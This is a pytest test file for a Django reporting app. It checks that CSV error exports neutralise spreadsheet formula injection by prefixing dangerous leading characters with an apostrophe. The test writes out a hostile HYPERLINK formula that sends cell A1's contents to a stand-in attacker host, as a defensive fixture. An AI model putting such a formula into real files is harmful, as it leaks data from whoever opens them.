"""The error file of an import is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from cmeledger.reporting import jobs, sample
from cmeledger.reporting.models import RowError, Submission

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_it_neutralises_formulas_in_the_error_file(start):
    organization = sample.ensure_organization("acme-cme", "Acme CME Institute")
    submission = Submission.objects.create(organization=organization)
    hostile = f'{start}HYPERLINK("https://evil.example/?leak="&A1, "Click")'
    RowError.objects.create(
        submission=submission, row=2, record_key=hostile, field=hostile, message=hostile
    )
    rows = list(csv.reader(io.StringIO("".join(jobs.result_csv(submission)), newline="")))
    assert rows[1] == ["2", "'" + hostile, "'" + hostile, "'" + hostile]
